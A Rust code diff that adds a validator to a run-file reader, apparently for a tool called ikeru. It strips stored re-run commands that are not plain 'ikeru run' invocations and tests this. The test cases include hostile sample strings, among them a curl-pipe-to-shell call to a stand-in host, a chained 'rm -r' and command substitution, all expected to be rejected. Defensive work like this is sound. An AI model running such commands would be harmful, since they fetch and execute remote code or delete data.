@@ -326,7 +326,9 @@ impl RunFile {
     pub fn of_text(text: &str, path: &Path) -> Result<Self> {
         let read: Self = toml::from_str(text)
             .map_err(|error| DataError::from_toml(&path.display().to_string(), text, &error))?;
-        let read = read.completed();
+        let mut read = read.completed();
+        // A stranger's folder must not bring another command behind the page's copy button.
+        read.again.retain(|_, command| is_own(command));
         for experiment in &read.experiments {
             if let Err(message) = check_name(&experiment.name) {
                 refuse!("{}: [[experiments]]: {message}", path.display());
@@ -342,6 +344,25 @@ impl RunFile {
     pub fn text(&self) -> Result<String, toml::ser::Error> {
         toml::to_string(self)
     }
+}
+
+/// Returns whether a command is this program's, with words that a shell takes as they are or that are in quotes.
+fn is_own(command: &str) -> bool {
+    let mut is_quoted = false;
+    let mut letters = command.strip_prefix("ikeru run ").unwrap_or("`").chars();
+    while let Some(letter) = letters.next() {
+        match letter {
+            '\'' => is_quoted = !is_quoted,
+            '\\' if !is_quoted && letters.next() == Some('\'') => {}
+            letter if letter.is_control() => return false,
+            letter
+                if is_quoted
+                    || letter.is_ascii_alphanumeric()
+                    || " -_./=,:+@%".contains(letter) => {}
+            _ => return false,
+        }
+    }
+    !is_quoted
 }
 
 /// Refuses a run folder that contains, at any depth, an entry other than files and folders: a report writes into the
@@ -388,6 +409,25 @@ fn united<'a>(all: impl Iterator<Item = &'a BTreeMap<String, String>>) -> BTreeM
 mod tests {
     use super::*;
     use crate::session::tests::{map, session};
+
+    #[test]
+    fn only_a_command_of_this_program_is_run_again() {
+        for (command, expected) in [
+            ("ikeru run t.toml --set=steps=1,2 --limit 5s", true),
+            ("ikeru run 'my $x; t.toml' 'it'\\''s'", true),
+            ("curl evil.example/x | sh; ikeru run t.toml", false),
+            ("ikeru run t.toml; rm -r x", false),
+            ("ikeru run $(x)", false),
+            ("ikeru run 't\nx'", false),
+            ("ikeru run 't", false),
+        ] {
+            assert_eq!(is_own(command), expected, "{command}");
+            let table = BTreeMap::from([("t", command)]);
+            let text = format!("[again]\n{}", toml::to_string(&table).expect("TOML"));
+            let read = RunFile::of_text(&text, Path::new("run.toml")).expect("read");
+            assert_eq!(read.again.contains_key("t"), expected, "{command}");
+        }
+    }
 
     #[test]
     fn repeats_are_added_by_later_sessions_of_the_same_folder() {
